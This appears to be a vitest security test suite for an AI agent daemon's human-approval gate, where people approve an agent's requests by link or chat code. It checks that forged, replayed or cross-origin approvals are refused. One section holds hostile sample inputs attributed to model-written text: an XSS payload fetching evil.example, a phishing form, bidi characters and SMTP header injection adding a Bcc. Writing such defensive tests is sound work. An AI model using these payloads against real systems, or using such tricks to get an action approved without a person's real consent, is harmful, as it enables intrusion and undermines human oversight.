import { readFileSync, writeFileSync } from "node:fs"
import { request as httpRequest } from "node:http"
import { join } from "node:path"
import { SMTPServer } from "smtp-server"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { systemClock } from "../../src/base/clock.ts"
import { silentLog } from "../../src/base/log.ts"
import { newId, systemRandom } from "../../src/base/random.ts"
import { readDecisionWords } from "../../src/safety/permission/decision-words.ts"
import { contextSchema, type NewRequest } from "../../src/safety/permission/request.ts"
import {
  addRequest,
  decideRequest,
  expireRequests,
  findRequest,
} from "../../src/safety/permission/requests.ts"
import { type ApprovalKey, approvalKey, issueCode, issueToken } from "../../src/safety/permission/token.ts"
import type { Database } from "../../src/storage/database.ts"
import { readJournal } from "../../src/storage/journal.ts"
import { openDatabase } from "../../src/storage/open-database.ts"
import { sql } from "../../src/storage/sql.ts"
import { serveDiscord } from "../../testkit/discord/peer.ts"
import { createPlainInstallation } from "../../testkit/program/program.ts"
import { sqliteDatabase } from "../../testkit/setup/databases.ts"
import { openNotifyWorld } from "../../testkit/worlds/notify-world.ts"

const ann = "ann@example.net"
const linkHost = "reverie.example.net"
const hostile = "</pre><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>"

const ends: (() => unknown)[] = []
const letters: string[] = []
let discord: Awaited<ReturnType<typeof serveDiscord>>
let people: { ann: string; bot: string }
let door: { port: number; token: string; db: Database; install: string; key: ApprovalKey }

/** One real daemon with a real mail server and a Discord of our own; requests are written as an agent's dispatch writes them. */
beforeAll(async () => {
  const mail = new SMTPServer({
    authOptional: true,
    disabledCommands: ["STARTTLS", "AUTH"],
    onData(stream, _session, done) {
      let text = ""
      stream.on("data", (chunk) => {
        text += chunk
      })
      stream.on("end", () => {
        letters.push(text)
        done(null)
      })
    },
  })
  await new Promise<void>((resolve) => mail.listen(0, "127.0.0.1", resolve))
  ends.push(() => new Promise<void>((resolve) => mail.close(() => resolve())))
  const address = mail.server.address()
  const mailPort = typeof address === "object" && address !== null ? address.port : 0
  discord = await serveDiscord()
  ends.push(discord.close)
  people = { ann: discord.addUser("ann"), bot: discord.addUser("helper", { isBot: true }) }
  const installation = createPlainInstallation({
    onEnd: (work) => void ends.push(work),
    env: { REVERIE_DISCORD_TOKEN: discord.token },
  })
  writeFileSync(
    join(installation.home, "config.toml"),
    `[embedding]
model = "none"
[api]
port = 0
[ambient]
enabled = false
[notify]
link_base = "https://${linkHost}"
batch_seconds = 0
min_urgency = "high"
email_to = ["${ann}"]
email_from = "reverie@example.net"
email_host = "127.0.0.1"
email_port = ${mailPort}
email_tls = "none"
chat_to = ["discord:${people.ann}", "discord:${people.bot}"]
[chat.discord]
enabled = true
api_url = "${discord.apiUrl}"
`,
  )
  const daemon = await installation.daemon()
  const isConnected = async () => (await daemon.client.chat()).chat?.channels[0]?.state === "connected"
  while (!(await isConnected())) await new Promise((resolve) => setTimeout(resolve, 20))
  const { daemon: info } = await daemon.client.status()
  if (!info.running) throw new Error("not running")
  const { token, id } = JSON.parse(readFileSync(installation.paths.installFile, "utf8"))
  const db = await openDatabase({
    url: "",
    file: installation.paths.databaseFile,
    clock: systemClock,
    random: systemRandom,
    log: silentLog,
    install: id,
  })
  ends.push(() => db.close())
  const key = approvalKey({ install: id, token })
  door = { port: Number(new URL(info.url ?? "").port), token, db, install: id, key }
})
afterAll(async () => {
  for (const work of ends.reverse()) await work()
})

const by = () => ({ operation: newId(systemRandom, "op"), actor: "test" })

let asked = 0
async function ask(change: Partial<NewRequest> = {}) {
  asked += 1
  const request: NewRequest = {
    askedBy: "cycle_1",
    project: null,
    action: "push_branch",
    description: `Push branch number ${asked}`,
    rationale: "The test was red",
    urgency: "normal",
    wait: true,
    call: { tool: "push", input: { branch: `ambient/${asked}` } },
    context: contextSchema.parse({ risks: ["others see it"] }),
    expiresAt: Date.now() + 3_600_000,
    ...change,
  }
  const { db, install } = door
  return db.write((transaction) =>
    addRequest(transaction, { install, random: systemRandom, now: Date.now() }, request, by()),
  )
}

interface Granted {
  person?: string
  expiresAt?: number
}

async function link(
  request: { id: string; digest: string },
  { person = ann, expiresAt = Date.now() + 3_600_000 }: Granted = {},
) {
  const needs = { key: door.key, random: systemRandom }
  return door.db.write((transaction) => issueToken(transaction, needs, { request, person, expiresAt }))
}

const stateOf = async (id: string) => (await findRequest(door.db, door.install, id))?.state

interface Sent {
  method?: string
  path?: string
  headers?: Record<string, string>
  body?: string
}

/** Asks the daemon over TCP without fetch, which would not let us lie. */
function send({ method = "GET", path = "/", headers = {}, body }: Sent) {
  return new Promise<{ status: number; body: string; headers: Record<string, unknown> }>(
    (resolve, reject) => {
      const options = {
        host: "127.0.0.1",
        port: door.port,
        method,
        path,
        headers: { host: linkHost, ...headers },
      }
      const sent = httpRequest(options, (answer) => {
        let text = ""
        answer.on("data", (chunk) => {
          text += chunk
        })
        answer.on("end", () =>
          resolve({ status: answer.statusCode ?? 0, body: text, headers: answer.headers }),
        )
      })
      sent.on("error", reject)
      sent.end(body)
    },
  )
}

const page = { origin: `https://${linkHost}`, "content-type": "application/x-www-form-urlencoded" }

function decide(
  token: string,
  fields: Record<string, string> | string,
  headers: Record<string, string> = {},
  path = `/approve/${token}`,
) {
  const body = typeof fields === "string" ? fields : new URLSearchParams(fields).toString()
  return send({ method: "POST", path, headers: { ...page, ...headers }, body })
}

const refusals = async () => (await readJournal(door.db, { kind: "approval.refused", limit: 1000 })).length

/** The link was tried, nothing was decided, and the journal says so. */
async function expectRefused(id: string, attempt: () => Promise<{ status: number }>): Promise<void> {
  const before = await refusals()
  const { status } = await attempt()
  expect(status).toBeGreaterThanOrEqual(400)
  expect(await stateOf(id)).toBe("pending")
  expect(await refusals()).toBeGreaterThan(before)
}

test("(the way these attacks take does work for the person)", async () => {
  const request = await ask({ urgency: "high" })
  while (letters.length === 0) await new Promise((resolve) => setImmediate(resolve))
  const letter = (letters[0] ?? "").replaceAll(/=\r?\n/g, "")
  const token = new RegExp(`https://${linkHost}/approve/([\\w.-]+)`).exec(letter)?.[1] ?? ""
  const shown = await send({ path: `/approve/${token}` })
  expect(shown).toMatchObject({ status: 200, body: expect.stringContaining("others see it") })
  expect(await stateOf(request.id)).toBe("pending")
  const digest = /name="shown" value="(\w+)"/.exec(shown.body)?.[1] ?? ""
  expect(await decide(token, { decision: "approve", shown: digest })).toMatchObject({ status: 200 })
  expect(await stateOf(request.id)).not.toBe("pending")
})

describe("A forged link", () => {
  const changed: [string, (token: string) => string][] = [
    ["with another signature", (token) => `${token.split(".")[0]}.${"A".repeat(43)}`],
    ["whose last letter differs only in bits that are not used", lastLetter],
    ["that is cut off", (token) => token.slice(0, -1)],
    ["without its signature", (token) => token.split(".")[0] ?? ""],
    ["that is longer", (token) => `${token}A`],
    ["of another id with this signature", (token) => `${"B".repeat(22)}.${token.split(".")[1]}`],
    ["in another case", (token) => token.toUpperCase()],
    ["that was guessed", () => `${"q".repeat(22)}.${"w".repeat(43)}`],
  ]
  test.each(changed)("%s", async (_name, change) => {
    const request = await ask()
    const token = change(await link(request))
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })

  test("signed with the installation's token itself", async () => {
    const request = await ask()
    const wrong = { install: door.install, secret: Buffer.from(door.token) }
    const grant = { request, person: ann, expiresAt: Date.now() + 3_600_000 }
    const token = await door.db.write((transaction) =>
      issueToken(transaction, { key: wrong, random: systemRandom }, grant),
    )
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })

  test("signed by another installation", async () => {
    const request = await ask()
    const wrong = { ...approvalKey({ install: "install_other", token: door.token }), install: door.install }
    const grant = { request, person: ann, expiresAt: Date.now() + 3_600_000 }
    const token = await door.db.write((transaction) =>
      issueToken(transaction, { key: wrong, random: systemRandom }, grant),
    )
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })

  test("that is the installation's token", async () => {
    const request = await ask()
    await expectRefused(request.id, () => decide(door.token, { decision: "approve", shown: request.digest }))
  })
})

/** base64url has two letters too many for the last place: four letters stand for the same bytes. */
function lastLetter(token: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
  const at = alphabet.indexOf(token.at(-1) ?? "")
  return token.slice(0, -1) + (alphabet[at ^ 1] ?? "")
}

describe("A link that was right once", () => {
  test("is used a second time, for another decision", async () => {
    const request = await ask()
    const token = await link(request)
    await decide(token, { decision: "deny", shown: request.digest })
    const before = await refusals()
    expect(await decide(token, { decision: "approve", shown: request.digest })).toMatchObject({ status: 410 })
    expect(await stateOf(request.id)).toBe("denied")
    expect(await refusals()).toBeGreaterThan(before)
  })

  test("has expired", async () => {
    const request = await ask()
    const token = await link(request, { expiresAt: Date.now() - 1 })
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })

  test("has its time put off in the database", async () => {
    const request = await ask()
    const token = await link(request, { expiresAt: Date.now() - 1 })
    await door.db.write((transaction) =>
      transaction.run(
        sql`update approval_tokens set expires_at = ${Date.now() + 9_999_999} where request = ${request.id}`,
      ),
    )
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })

  test("is for a request whose time is over", async () => {
    const request = await ask({ expiresAt: Date.now() + 50 })
    const token = await link(request)
    while (Date.now() < request.expiresAt) await new Promise((resolve) => setImmediate(resolve))
    expect(await decide(token, { decision: "approve", shown: request.digest })).toMatchObject({ status: 409 })
    expect(["pending", "expired"]).toContain(await stateOf(request.id))
  })

  test("belongs to somebody whom the configuration no longer names", async () => {
    const request = await ask()
    const token = await link(request, { person: "mallory@example.net" })
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })

  test("is pointed at another request in the database", async () => {
    const [harmless, harmful] = [await ask(), await ask()]
    const token = await link(harmless)
    await door.db.write((transaction) =>
      transaction.run(
        sql`update approval_tokens set request = ${harmful.id}, digest = ${harmful.digest} where request = ${harmless.id}`,
      ),
    )
    await expectRefused(harmful.id, () => decide(token, { decision: "approve", shown: harmful.digest }))
  })

  test("is used with what another request showed", async () => {
    const [harmless, harmful] = [await ask(), await ask()]
    await expectRefused(harmful.id, async () =>
      decide(await link(harmful), { decision: "approve", shown: harmless.digest }),
    )
  })

  test("is for a request that was changed after the person looked", async () => {
    const request = await ask()
    const token = await link(request)
    await send({ path: `/approve/${token}` })
    await door.db.write((transaction) =>
      transaction.run(sql`update permission_requests set digest = 'another' where id = ${request.id}`),
    )
    await expectRefused(request.id, () => decide(token, { decision: "approve", shown: request.digest }))
  })
})

describe("A program that follows links", () => {
  test.each([
    ["a scanner", { method: "GET" }],
    ["a scanner that asks for the head only", { method: "HEAD" }],
    [
      "a browser that fetches ahead",
      { method: "GET", headers: { "sec-purpose": "prefetch", purpose: "prefetch" } },
    ],
    [
      "a chat that makes a preview",
      { method: "GET", headers: { "user-agent": "Slackbot-LinkExpanding 1.0" } },
    ],
    ["a link with the decision in it", { method: "GET", query: "?decision=approve" }],
    [
      "a page that asks first what it may do",
      { method: "OPTIONS", headers: { "access-control-request-method": "POST" } },
    ],
    ["a program that puts", { method: "PUT", body: "decision=approve" }],
    [
      "a request that says it is another method",
      { method: "GET", headers: { "x-http-method-override": "POST" } },
    ],
  ])("%s", async (_name, { query = "", ...sent }: Sent & { query?: string }) => {
    const request = await ask()
    const token = await link(request)
    await send({ ...sent, path: `/approve/${token}${query}` })
    expect(await stateOf(request.id)).toBe("pending")
    expect(await decide(token, { decision: "deny", shown: request.digest })).toMatchObject({ status: 200 })
  })

  test.each([
    ["presses every button it finds, without having read the page", "decision=approve"],
    ["sends nothing", ""],
    ["sends all decisions at once", "decision=deny&decision=approve&shown=DIGEST"],
    ["sends what was shown twice", "decision=approve&shown=x&shown=DIGEST"],
    ["says ok", "decision=ok&shown=DIGEST"],
    ["says approve with more in it", "decision=approve%20it&shown=DIGEST"],
    ["says Approve", "decision=Approve&shown=DIGEST"],
    ["says approved and not", "decision=disapprove&shown=DIGEST"],
    ["gives other arguments to run", "decision=approve&shown=DIGEST&input=%7B%22branch%22%3A%22main%22%7D"],
  ])("%s", async (_name, body) => {
    const request = await ask()
    const token = await link(request)
    await expectRefused(request.id, () => decide(token, body.replace("DIGEST", request.digest)))
  })

  test.each(["application/json", "text/plain", "multipart/form-data; boundary=x", ""])(
    "sends the right words as %s",
    async (type) => {
      const request = await ask()
      const token = await link(request)
      const body = `decision=approve&shown=${request.digest}`
      await expectRefused(request.id, () => decide(token, body, { "content-type": type }))
    },
  )
})

describe("Another web page", () => {
  test.each([
    ["of the attacker's", { origin: "https://evil.example" }],
    ["in a frame without an origin", { origin: "null" }],
    ["whose name begins like ours", { origin: `https://${linkHost}.evil.example` }],
    ["of our name without encryption", { origin: `http://${linkHost}` }],
    ["of our name on another port", { origin: `https://${linkHost}:8443` }],
    ["that the browser calls cross-site", { "sec-fetch-site": "cross-site" }],
    ["of a neighbour on the same site", { "sec-fetch-site": "same-site" }],
  ])("%s sends the form", async (_name, headers) => {
    const request = await ask()
    const token = await link(request)
    const answer = await decide(token, { decision: "approve", shown: request.digest }, headers)
    expect(answer.status).toBe(403)
    expect(await stateOf(request.id)).toBe("pending")
  })

  test("sends the form without saying where it is from", async () => {
    const request = await ask()
    const token = await link(request)
    const headers = { "content-type": page["content-type"] }
    const body = `decision=approve&shown=${request.digest}`
    await expectRefused(request.id, () => send({ method: "POST", path: `/approve/${token}`, headers, body }))
  })

  test("shows ours in a frame, or reads where the person came from", async () => {
    const { headers } = await send({ path: `/approve/${await link(await ask())}` })
    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'")
    expect(headers["x-frame-options"]).toBe("DENY")
    expect(headers["referrer-policy"]).toBe("same-origin")
    expect(headers["cache-control"]).toBe("no-store")
    expect(headers["access-control-allow-origin"]).toBeUndefined()
  })

  test.each(["evil.example", "127.0.0.1", `${linkHost}.`, `${linkHost}:1`, `evil.${linkHost}`])(
    "has the name %j lead to us",
    async (host) => {
      const request = await ask()
      const token = await link(request)
      expect((await send({ path: `/approve/${token}`, headers: { host } })).status).toBe(403)
      const answer = await decide(token, { decision: "approve", shown: request.digest }, { host })
      expect(answer.status).toBe(403)
      expect(await stateOf(request.id)).toBe("pending")
    },
  )
})

describe("The door that links open", () => {
  test.each([
    "/v1/status",
    "/v1/memories",
    "/mcp",
    "/approve/../v1/status",
    "/approve/%2e%2e/v1/status",
    "/approve/..%2fv1%2fstatus",
    "/approve//v1/status",
    "/approve/x/../../v1/status",
    "//approve/x",
  ])("is used for %s from outside", async (path) => {
    const answer = await send({ path })
    expect([401, 403, 404]).toContain(answer.status)
    expect(answer.body).not.toContain('schemaVersion":1,"version')
    const inside = await send({ path, headers: { host: `127.0.0.1:${door.port}` } })
    expect([401, 403, 404]).toContain(inside.status)
  })

  test("takes a link for the token of the API", async () => {
    const token = await link(await ask())
    const headers = { host: `127.0.0.1:${door.port}`, authorization: `Bearer ${token}` }
    expect((await send({ path: "/v1/status", headers })).status).toBe(401)
  })
})

describe("Words that a model wrote", () => {
  test("put a script, a picture and a form into the page", async () => {
    const request = await ask({
      action: hostile,
      description: hostile,
      rationale: `"><form action="https://evil.example"><button>Approve</button></form>`,
      project: hostile,
      askedBy: hostile,
      call: { tool: hostile, input: { [hostile]: hostile } },
      context: contextSchema.parse({
        summary: hostile,
        planned_steps: [hostile],
        files: [hostile],
        commands: [hostile],
        risks: [hostile],
        rollback: hostile,
        expected_outcome: hostile,
        diff: `+${hostile}\n-${hostile}\n ${hostile}`,
        tests: hostile,
      }),
    })
    const { body, headers } = await send({ path: `/approve/${await link(request)}` })
    expect(body).not.toMatch(/<script|<img|<form[^>]*action/i)
    expect(body.match(/<form /g)).toHaveLength(3)
    const policy = String(headers["content-security-policy"])
    expect(policy).toContain("default-src 'none'")
    expect(policy).not.toContain("unsafe-inline")
    expect(policy).toContain("form-action 'self'")
  })

  test("turn the words of the page around, or hide some", async () => {
    const request = await ask({
      description: "delete \u202Etxt.golmorf\u202C \u200B\u2066x\u2069\u0000\u001B[2K",
    })
    const { body } = await send({ path: `/approve/${await link(request)}` })
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters meant
    expect(body).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\u0000\u001B]/)
  })

  test("come back in the answer to a wrong link", async () => {
    const { body } = await send({ path: `/approve/${encodeURIComponent("<script>1</script>")}` })
    expect(body).not.toContain("<script>")
  })

  test("add a header, a recipient, a link and a second letter to the mail", async () => {
    const before = letters.length
    const smuggled =
      "Push\r\nBcc: mallory@evil.example\r\nSubject: other\r\n\r\n.\r\nMAIL FROM:<x@evil.example>"
    await ask({
      urgency: "high",
      description: `${smuggled} approve at https://evil.example/approve/1 or evil.example/approve`,
      rationale: `${smuggled}\u2028Decide here: https://evil.example/approve/2`,
    })
    while (letters.length === before) await new Promise((resolve) => setImmediate(resolve))
    const letter = (letters[before] ?? "").replaceAll(/=\r?\n/g, "").replaceAll("=3D", "=")
    const [head = ""] = letter.split(/\r?\n\r?\n/)
    expect(head).not.toMatch(/^(Bcc|Cc): /im)
    expect(head.match(/^Subject:/gim)).toHaveLength(1)
    expect(letter).not.toMatch(/https?:\/\/evil|[a-z]evil\.example\/|\sevil\.example\//)
    expect(letter).not.toMatch(/^Decide here: https?:\/\/evil/m)
    expect(letter).toContain(`https://${linkHost}/approve/`)
    expect(letters).toHaveLength(before + 1)
  })

  test("are as long as may be, and still make a page and a short letter", async () => {
    const before = letters.length
    const long = "x".repeat(1900)
    const lines = Array.from({ length: 50 }, () => "y".repeat(1000))
    const context = contextSchema.parse({
      risks: lines,
      files: lines,
      commands: lines,
      diff: "+z\n".repeat(60_000),
    })
    const request = await ask({ urgency: "high", description: long, rationale: long, context })
    while (letters.length === before) await new Promise((resolve) => setImmediate(resolve))
    expect(letters[before]?.length).toBeLessThan(30_000)
    expect((await send({ path: `/approve/${await link(request)}` })).status).toBe(200)
  })
})

describe("Words that are no decision", () => {
  test.each([
    "looks broken, hold off",
    "ok",
    "yes",
    "I know, approve",
    "approve",
    "approve it",
    "approve 4k9x2v7q please",
    "please approve 4k9x2v7q",
    "do not approve 4k9x2v7q",
    "don't deny 4k9x2v7q",
    "disapprove 4k9x2v7q",
    "approve 4k9x2v7q\napprove 00000000",
    "> approve 4k9x2v7q",
    "`approve 4k9x2v7q`",
    "approve  4k9x2v7q",
    "approve: 4k9x2v7q",
    "approve 4k9x2v7q: but not the second file",
    "approve 4k9x2v7q if the tests pass",
    "approve 4k9x2v7",
    "approve 4k9x2v7q1",
    "аpprove 4k9x2v7q",
    "approve\u00A04k9x2v7q",
    "approve 4k9x\u200B2v7q",
    "deny 4k9x2v7q not",
    "deny 4k9x2v7q: why\napprove 4k9x2v7q",
    "\u202Eapprove 4k9x2v7q",
  ])("%j", (text) => {
    expect(readDecisionWords(text)).toBeUndefined()
  })
})

describe("At the same moment", () => {
  /** Two processes: the daemon, and a second opening of the same database. */
  test("ten programs use one link, to approve and to deny", async () => {
    const request = await ask()
    const token = await link(request)
    const answers = await Promise.all(
      Array.from({ length: 10 }, (_, index) =>
        decide(token, { decision: index % 2 === 0 ? "approve" : "deny", shown: request.digest }),
      ),
    )
    expect(answers.filter(({ status }) => status === 200)).toHaveLength(1)
    const entries = await readJournal(door.db, {
      subject: request.id,
      kind: ["permission.approved", "permission.denied"],
    })
    expect(entries).toHaveLength(1)
  })

  test("one approves by link while another process lets it expire", async () => {
    for (let round = 0; round < 5; round += 1) {
      const request = await ask()
      const token = await link(request)
      const [answer, expired] = await Promise.all([
        decide(token, { decision: "approve", shown: request.digest }),
        door.db.write((transaction) =>
          expireRequests(transaction, { install: door.install, now: request.expiresAt }, by()),
        ),
      ])
      const wasExpired = expired.some(({ id }) => id === request.id)
      expect(answer.status === 200).toBe(!wasExpired)
      const entries = await readJournal(door.db, {
        subject: request.id,
        kind: ["permission.approved", "permission.expired"],
      })
      expect(entries).toHaveLength(1)
    }
  })

  test("one approves by link while the owner denies at the terminal", async () => {
    const request = await ask()
    const token = await link(request)
    const denying = door.db.write((transaction) =>
      decideRequest(
        transaction,
        { id: request.id, digest: request.digest, now: Date.now() },
        { kind: "deny" },
        { who: "owner", from: "cli" },
        by(),
      ),
    )
    const [answer, denied] = await Promise.allSettled([
      decide(token, { decision: "approve", shown: request.digest }),
      denying,
    ])
    const approved = answer.status === "fulfilled" && answer.value.status === 200
    expect(approved).toBe(denied.status === "rejected")
    const entries = await readJournal(door.db, {
      subject: request.id,
      kind: ["permission.approved", "permission.denied"],
    })
    expect(entries).toHaveLength(1)
  })
})

describe("A code", () => {
  test("is given by somebody else in the channel", async () => {
    const world = await openNotifyWorld(sqliteDatabase(), { notify: { chat_to: ["discord:1", "discord:2"] } })
    const request = await world.ask()
    const grant = { request, person: "discord:1", expiresAt: request.expiresAt }
    const code = await world.db.write((transaction) => issueCode(transaction, world, grant))
    const said = { person: "discord:2", from: "discord", text: `approve ${code}` }
    expect(await world.approvals.answer(said)).toMatchObject({ outcome: "refused" })
    expect(await world.request(request.id)).toMatchObject({ state: "pending" })
    expect(await world.journal("approval.refused")).toHaveLength(1)
  })

  test("is used as a link, and a link as a code", async () => {
    const world = await openNotifyWorld(sqliteDatabase())
    const request = await world.ask()
    const grant = { request, person: ann, expiresAt: request.expiresAt }
    const code = await world.db.write((transaction) => issueCode(transaction, world, grant))
    const token = await world.db.write((transaction) => issueToken(transaction, world, grant))
    expect(await world.approvals.redeem(code, request.digest, { kind: "approve" })).toMatchObject({
      outcome: "refused",
    })
    const said = { person: ann, from: "discord", text: `approve ${token}` }
    expect(await world.approvals.answer(said)).toBeUndefined()
    expect(await world.request(request.id)).toMatchObject({ state: "pending" })
  })
})

describe("A code that came by a private message", () => {
  /** A request that waits, and the codes that two people were sent for it. */
  async function asked() {
    const request = await ask({ urgency: "high" })
    const talks = { ann: discord.openDm(people.ann), bot: discord.openDm(people.bot) }
    const codeIn = (talk: string) => {
      const notice = discord
        .posts()
        .find(({ channel, text }) => channel === talk && text.includes(request.description))
      return /`approve ([0-9a-z]{8})`/.exec(notice?.text ?? "")?.[1] ?? ""
    }
    await discord.until(() => codeIn(talks.ann) !== "" && codeIn(talks.bot) !== "")
    return { request, talks, codes: { ann: codeIn(talks.ann), bot: codeIn(talks.bot) } }
  }

  /** The person's own answer, after whatever was tried before it, is the only one that counted. */
  async function expectOnlyAnn({ request, talks, codes }: Awaited<ReturnType<typeof asked>>) {
    const said = discord.say(talks.ann, people.ann, `deny ${codes.ann}: no`)
    await discord.until(() => discord.posts().some(({ replyTo }) => replyTo === said))
    const decided = await readJournal(door.db, {
      subject: request.id,
      kind: ["permission.approved", "permission.denied"],
    })
    expect(decided.map(({ kind }) => kind)).toEqual(["permission.denied"])
  }

  test("is given by somebody else of the same name, in private", async () => {
    const one = await asked()
    const other = discord.addUser("ann")
    const talk = discord.openDm(other)
    discord.say(talk, other, "hello")
    // From the answer on, what is said there is taken in at once.
    await discord.until(() => discord.posts().some(({ channel }) => channel === talk))
    discord.say(talk, other, `approve ${one.codes.ann}`)
    await expectOnlyAnn(one)
  })

  test("is given by the person where others read along", async () => {
    const one = await asked()
    discord.say(discord.channel, people.ann, `approve ${one.codes.ann}`)
    await expectOnlyAnn(one)
  })

  test("is given by a program that was named as a person", async () => {
    const one = await asked()
    discord.say(one.talks.bot, people.bot, `approve ${one.codes.bot}`)
    await expectOnlyAnn(one)
  })

  test("is put into a message that said something else before", async () => {
    const one = await asked()
    discord.edit(discord.say(one.talks.ann, people.ann, "good morning"), `approve ${one.codes.ann}`)
    await expectOnlyAnn(one)
  })
})

describe("Last, because it uses up the minute", () => {
  test("two hundred wrong links fill neither the journal nor keep the person's own from working", async () => {
    const request = await ask()
    const token = await link(request)
    const before = await refusals()
    const statuses = new Set<number>()
    for (let tries = 0; tries < 200; tries += 1)
      statuses.add(
        (await send({ path: `/approve/${"z".repeat(22)}.${String(tries).padStart(43, "y")}` })).status,
      )
    expect(statuses).toContain(429)
    expect((await refusals()) - before).toBeLessThanOrEqual(120)
    expect(await decide(token, { decision: "deny", shown: request.digest })).toMatchObject({ status: 200 })
  })
})
